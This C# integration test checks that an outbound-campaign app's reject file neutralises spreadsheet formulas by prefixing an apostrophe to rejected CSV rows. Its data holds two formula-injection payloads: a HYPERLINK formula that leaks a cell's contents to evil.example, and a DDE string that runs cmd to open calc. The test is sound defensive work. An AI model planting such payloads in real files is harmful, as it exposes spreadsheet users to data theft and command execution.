using System.Text;
using Outbound.Core.Lists;
using Outbound.Web.Tests.Support;

namespace Outbound.Web.Tests.Campaigns;

/// <summary>The reject file as a client downloads it and opens it in a spreadsheet.</summary>
[Collection(WebCollection.Name)]
public sealed class RejectReportTests(OutboundWebFactory app)
{
    [Fact]
    public async Task A_rejected_row_that_is_a_spreadsheet_formula_comes_back_as_text_in_the_reject_file()
    {
        var manager = await app.SignedInAs("manager@demo.local");
        var power = app.Demo.Campaigns["power-survey-1"].Value;
        const string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A2;\"click\")";
        var csv = Encoding.UTF8.GetBytes($"姓名,电话,工单号\n王芳,139{Random.Shared.Next(10_000_000, 99_999_999)},GD1\n{formula}\n-2+3+cmd|' /C calc'!A0,12345,GD3\n");
        var job = await ListUploads.ImportAsync(manager, power, "formula.csv", csv);
        Assert.Equal((1, 2), (job.GetProperty("imported").GetInt32(), job.GetProperty("rejected").GetInt32()));

        var client = await app.SignedInAs("client@demo-power.local");
        var file = await client.GetPageAsync($"/Campaigns/Import/{job.GetProperty("importId").GetGuid()}?handler=Rejects");
        var reader = new CsvRecordReader(new StringReader(file.TrimStart('\uFEFF')));
        var raws = new List<string>();
        while (reader.Read()) raws.Add(reader.FieldString(3));
        Assert.Equal(["raw", "'" + formula, "'-2+3+cmd|' /C calc'!A0,12345,GD3"], raws);
    }
}
